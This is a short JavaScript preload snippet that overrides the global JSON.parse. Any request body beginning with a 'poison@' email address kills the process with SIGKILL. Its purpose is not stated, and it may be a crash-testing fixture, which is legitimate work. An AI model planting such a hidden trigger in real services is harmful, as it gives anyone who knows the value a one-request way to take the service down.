// Loaded before a service: the body of a request for this address ends the process.
const poison = '{"email":"poison@'
const { parse } = JSON

JSON.parse = (text, ...rest) => {
  if (String(text).startsWith(poison)) process.kill(process.pid, 'SIGKILL')
  return parse(text, ...rest)
}
